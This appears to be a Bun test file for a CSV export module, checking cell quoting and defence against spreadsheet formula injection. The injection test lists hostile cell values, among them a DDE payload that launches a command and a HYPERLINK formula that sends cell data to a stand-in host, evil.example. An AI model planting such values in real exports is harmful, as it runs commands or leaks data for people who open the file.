import { expect, test } from "bun:test";
import { csvCell, csvRow } from "./csv.ts";

test("cells with commas, quotes and line ends are quoted, others are as they are", () => {
  expect(csvRow([1, "plain", "a,b", 'say "hi"', "two\nlines", null])).toBe(
    '1,plain,"a,b","say ""hi""","two\nlines",\r\n',
  );
});

test("T81 no exported cell is taken for a formula", () => {
  for (const attack of [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "|calc",
    "%0A=1",
  ]) {
    const cell = csvCell(attack);
    expect([attack, /^"?'/.test(cell)]).toEqual([attack, true]);
    // What was there is still there, whole.
    const read = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    expect(read).toBe(`'${attack}`);
  }
  for (const harmless of ["user:anna", "auth.login", "a=b", "n_abc-def", '{"a":1}'])
    expect(csvCell(harmless)).not.toStartWith("'");
});
